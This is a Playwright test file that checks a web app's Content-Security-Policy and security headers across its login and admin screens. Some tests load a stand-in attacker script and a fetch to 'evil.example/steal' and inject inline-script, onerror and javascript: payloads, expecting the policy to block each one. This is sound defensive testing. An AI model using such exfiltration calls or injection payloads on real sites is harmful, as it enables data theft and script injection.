import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, type Page, type Response, test } from '@playwright/test';
import { type Brand, calls } from '@rollbook/contract';
import { type MailInbox, startMail } from '../local/mail/index';
import { type Rollbook, startRollbook } from './support/rollbook';
import { LONG } from './support/tier';

/** The pages as production serves them, with nothing real behind: an embedded database, and keys that open nothing. */
const ADMIN_PASSWORD = 'admin of the policy test';
const GROUP = { name: 'Policy Clinics', username: 'policy', password: 'group of the policy test' };
const OFFICE_EMAIL = 'policy@rollbook.example';
const SQUARE_SCRIPT = 'https://sandbox.web.squarecdn.com/v1/square.js';

let dataDir: string;
let mail: MailInbox;
let rollbook: Rollbook;
let officePassword: string;

test.beforeAll(async ({ playwright }) => {
  dataDir = mkdtempSync(join(tmpdir(), 'rollbook-policy-'));
  mail = await startMail({ dataDir: join(dataDir, 'test-mail') });
  const env = {
    ROLLBOOK_EMBEDDED: '1',
    SMTP_URL: mail.smtpUrl,
    SQUARE_ENVIRONMENT: 'sandbox',
    SQUARE_TOKEN: 'opens-nothing',
    SQUARE_APPLICATION_ID: 'sandbox-sq0idb-none',
    SQUARE_LOCATION_ID: 'LNONE',
    ADMIN_PASSWORD,
  };
  rollbook = await startRollbook({ dataDir, production: true, env });
  const admin = await playwright.request.newContext({ baseURL: rollbook.origin });
  await admin.post(calls.login.path, { data: { password: ADMIN_PASSWORD } });
  const { ogid } = await (await admin.post(calls.addGroup.path, { data: GROUP })).json();
  const newOffice = { office_name: 'Policy Clinic', office_email: OFFICE_EMAIL, ogid };
  const added = await admin.post(calls.addOffice.path, { data: { newOffice } });
  const made = await admin.put(calls.makePasswordForOffice.path, { data: { oid: (await added.json()).oid } });
  expect(made.status()).toBe(200);
  await admin.dispose();
  officePassword = await mailedPassword();
});
test.afterAll(async () => {
  await rollbook.stop();
  await mail.stop();
  rmSync(dataDir, { recursive: true, force: true });
});

async function mailedPassword(): Promise<string> {
  const find = () => mail.messages().flatMap(({ text }) => /\b\w{4}(-\w{4}){3}\b/.exec(text)?.[0] ?? []);
  await expect.poll(find, { timeout: 20_000 }).toHaveLength(1);
  return find()[0] ?? '';
}

/** Who visits which first screen, told by a heading of it; the forms begin with the choice of an office. */
const SCREENS = [
  { who: 'visitor', path: '/', heading: '' },
  { who: 'visitor', path: '/spanish', heading: '' },
  { who: 'visitor', path: '/office', heading: 'Office Login' },
  { who: 'visitor', path: '/officegroup', heading: 'Group Login' },
  { who: 'visitor', path: '/ecsadmin', heading: 'Admin Area - Password Needed' },
  { who: 'office', path: '/office', heading: 'Member List' },
  { who: 'group', path: '/officegroup', heading: 'Group Admin Area' },
  { who: 'admin', path: '/ecsadmin', heading: 'Admin Area' },
] as const;

for (const { who, path, heading } of SCREENS) {
  test(`${path} keeps to the policy of production for ${who}`, LONG, async ({ page }) => {
    await signIn(page, who);
    const complaints = await listen(page);
    const response = await page.goto(rollbook.origin + path);
    const sign = heading === '' ? page.getByRole('combobox') : page.getByRole('heading', { name: heading });
    await expect(sign.first()).toBeVisible();
    await page.waitForLoadState('networkidle');
    expectHeaders(response);
    expect(complaints()).toEqual([]);
  });
}

test(
  'the reference of the API keeps to a policy of its own, asks no other server and makes calls',
  LONG,
  async ({ page }) => {
    const complaints = await listen(page);
    const elsewhere: string[] = [];
    page.on('request', (request) => {
      if (!/^(data:|blob:)/.test(request.url()) && new URL(request.url()).origin !== rollbook.origin)
        elsewhere.push(request.url());
    });
    const response = await page.goto(`${rollbook.origin}/api/docs`);
    expect(response?.headers()['content-security-policy']).toContain("default-src 'none'; script-src 'self'");
    await page.getByPlaceholder('Filter by tag').click();
    await page.keyboard.type('brand');
    await page.getByRole('button', { name: 'GET /api/brand brand' }).click();
    await page.getByRole('button', { name: 'Try it out' }).click();
    await page.getByRole('button', { name: 'Execute' }).click();
    await expect(page.getByText('"planName"').first()).toBeVisible();
    await page.waitForLoadState('networkidle');
    expect(complaints()).toEqual([]);
    expect(elsewhere).toEqual([]);
  },
);

test('the script of the card provider is let in, and nothing of other hosts', async ({ page }) => {
  await page.route(SQUARE_SCRIPT, (route) =>
    route.fulfill({ contentType: 'text/javascript', body: 'window.letIn = true' }),
  );
  await page.route('https://evil.example/**', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: 'window.evil = true' }),
  );
  const complaints = await listen(page);
  await page.goto(rollbook.origin);
  const brand: Brand = await (await page.request.get(rollbook.origin + calls.brand.path)).json();
  expect(brand.card.scriptUrl, 'the one that the card form loads').toBe(SQUARE_SCRIPT);
  await addScript(page, SQUARE_SCRIPT);
  await expect.poll(() => page.evaluate('window.letIn')).toBe(true);
  await addScript(page, 'https://evil.example/steal.js');
  await expect.poll(complaints).toEqual(['script-src-elem https://evil.example/steal.js']);
  const sent = page.evaluate("fetch('https://evil.example/steal?what=all')");
  await expect(sent).rejects.toThrow();
  await expect
    .poll(complaints)
    .toContainEqual(expect.stringContaining('connect-src https://evil.example/steal'));
  expect(await page.evaluate('window.evil')).toBeUndefined();
});

test('Google Pay is let in, and a window of it can answer the page', LONG, async ({ page, context }) => {
  const answering = '<script>opener.postMessage("answered", "*")</script>';
  await context.route('https://pay.google.com/**', (route) =>
    route.request().resourceType() === 'script'
      ? route.fulfill({ contentType: 'text/javascript', body: 'window.letIn = true' })
      : route.fulfill({ contentType: 'text/html', body: answering }),
  );
  const complaints = await listen(page);
  await page.goto(rollbook.origin);
  await addScript(page, 'https://pay.google.com/gp/p/js/pay.js');
  await expect.poll(() => page.evaluate('window.letIn')).toBe(true);
  await page.evaluate(() => {
    addEventListener('message', ({ data, origin }) => Object.assign(window, { answer: [data, origin] }));
    window.open('https://pay.google.com/gp/p/ui/pay');
  });
  await expect.poll(() => page.evaluate('window.answer')).toEqual(['answered', 'https://pay.google.com']);
  expect(complaints()).toEqual([]);
});

test('what is injected does not run', LONG, async ({ page }) => {
  // As if an attacker had got a script into the document itself.
  await page.route(`${rollbook.origin}/`, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('<head>', '<head><script>window.injected = "head"</script>');
    await route.fulfill({ response, body });
  });
  const complaints = await listen(page);
  await page.goto(rollbook.origin);
  await expect(page.getByRole('heading').first()).toBeVisible();
  expect(await page.content()).toContain('window.injected');
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.injected = "script"';
    document.body.append(script);
    const box = document.createElement('div');
    box.innerHTML = '<img src="/none.png" onerror="window.injected = 1">';
    document.body.append(box);
    const link = document.createElement('a');
    link.href = 'javascript:window.injected=2';
    document.body.append(link);
    // oxlint-disable-next-line hands/by-hand -- what injected markup would do by itself
    link.click();
    setTimeout('window.injected = 3');
    setTimeout(() => new Function('window.injected = 4')());
  });
  // Head, script, handler, link, text as code, function from text.
  await expect.poll(() => complaints().filter((one) => one.startsWith('script-src')).length).toBe(6);
  expect(complaints().filter((one) => one.endsWith(' inline')).length).toBe(4);
  expect(complaints().filter((one) => one.endsWith(' eval')).length).toBe(2);
  expect(await page.evaluate('window.injected')).toBeUndefined();
});

function expectHeaders(response: Response | null): void {
  const headers = response?.headers() ?? {};
  const policy = new Map(
    (headers['content-security-policy'] ?? '').split('; ').map((one) => {
      const [name = '', ...sources] = one.split(' ');
      return [name, sources] as const;
    }),
  );
  expect(policy.get('script-src')).toEqual([
    "'self'",
    'https://sandbox.web.squarecdn.com',
    'https://pay.google.com',
  ]);
  for (const name of ['object-src', 'base-uri', 'frame-ancestors'])
    expect(policy.get(name)).toEqual(["'none'"]);
  expect(headers).toMatchObject({
    'x-content-type-options': 'nosniff',
    'referrer-policy': 'strict-origin-when-cross-origin',
    'cross-origin-opener-policy': 'same-origin-allow-popups',
  });
  expect(headers['permissions-policy']).toContain('camera=(self)');
  expect(headers['content-security-policy-report-only']).toBeUndefined();
  expect(headers['x-powered-by']).toBeUndefined();
}

test('answers of the API carry the headers of helmet', LONG, async ({ request }) => {
  const headers = (await request.get(`${rollbook.origin}${calls.brand.path}`)).headers();
  expect(headers).toMatchObject({
    'x-content-type-options': 'nosniff',
    'x-frame-options': 'DENY',
    'referrer-policy': 'no-referrer',
    'cross-origin-resource-policy': 'same-origin',
    'cache-control': 'no-store',
  });
  const policy = headers['content-security-policy'];
  for (const rule of [
    "script-src 'self'",
    "object-src 'none'",
    "base-uri 'none'",
    "frame-ancestors 'none'",
  ]) {
    expect(policy?.split(';')).toContain(rule);
  }
});

/** What the browser complains of: violations of the policy, and errors of the page itself. */
async function listen(page: Page): Promise<() => string[]> {
  const complaints: string[] = [];
  await page.exposeFunction('complain', (complaint: string) => void complaints.push(complaint));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      Object.assign(window).complain(`${effectiveDirective} ${blockedURI}`);
    });
  });
  page.on('pageerror', ({ message }) => complaints.push(message));
  return () => complaints;
}

async function addScript(page: Page, src: string): Promise<void> {
  await page.evaluate((address) => {
    const script = document.createElement('script');
    script.src = address;
    document.head.append(script);
  }, src);
}

async function signIn(page: Page, who: (typeof SCREENS)[number]['who']): Promise<void> {
  const { username, password } = GROUP;
  const logins = {
    office: [calls.officeLogin.path, { email: OFFICE_EMAIL, password: officePassword }],
    group: [calls.groupLogin.path, { username, password }],
    admin: [calls.login.path, { password: ADMIN_PASSWORD }],
  } as const;
  if (who === 'visitor') return;
  const [path, data] = logins[who];
  const { origin } = rollbook;
  expect((await page.request.post(origin + path, { data, headers: { origin } })).status()).toBe(200);
}
